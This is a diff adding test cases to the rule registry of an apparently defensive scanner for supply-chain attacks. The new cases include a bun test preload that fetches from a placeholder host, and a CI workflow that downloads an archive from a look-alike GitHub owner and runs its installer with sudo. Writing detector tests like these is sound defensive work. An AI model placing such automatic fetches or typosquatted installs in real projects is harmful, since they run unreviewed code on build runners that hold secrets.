@@ -664,6 +664,8 @@ var registry = []Rule{
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
 			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
+			// bun runs the files bunfig.toml preloads before every bun run and bun test.
+			{"bunfig.toml", "diff --git a/bunfig.toml b/bunfig.toml\nnew file mode 100644\n--- /dev/null\n+++ b/bunfig.toml\n@@ -0,0 +1,2 @@\n+[test]\n+preload = [\"./test/setup.ts\"]\ndiff --git a/test/setup.ts b/test/setup.ts\nnew file mode 100644\n--- /dev/null\n+++ b/test/setup.ts\n@@ -0,0 +1,2 @@\n+import { GlobalRegistrator } from \"@happy-dom/global-registrator\";\n+await fetch(\"https://x.invalid/p\");\n", 2, false},
 			// A gem's extconf.rb runs at gem install; a framework's config at every build.
 			{"ext/x/extconf.rb", "require 'mkmf'\nrequire 'net/http'\nNet::HTTP.get(URI('https://x.invalid/p'))\ncreate_makefile('x/x')", 3, false},
 			{"hardhat.config.js", "require('dotenv').config()\nfetch('https://x.invalid/p')\nmodule.exports = { solidity: '0.8.24' }", 2, false},
@@ -992,6 +994,8 @@ var registry = []Rule{
 		}},
 	{"lookalike-source", KindDependency, High, "names a look-alike of a well-known package, module, action, image, orb or hook repository",
 		"a name one letter off a well-known one is how typosquatted code gets run", []Case{
+			// A well-known owner's name dressed as its download channel.
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSLo /tmp/l.tgz \"https://github.com/golangci-lint-releases/bin/releases/download/v2.1.0/lint.tgz\"\n          tar -xzf /tmp/l.tgz -C /tmp/l\n          sudo /tmp/l/install --prefix /usr/local", 7, false},
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - uses: actlons/checkout@v4", 4, false},
 			{"Dockerfile", "FROM pyth0n:3.12", 0, false},
 			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -1,2 +1,2 @@\n steps:\n-  - uses: docker/login-action@v3\n+  - uses: docker/login-actions@v3\n", 2, false},
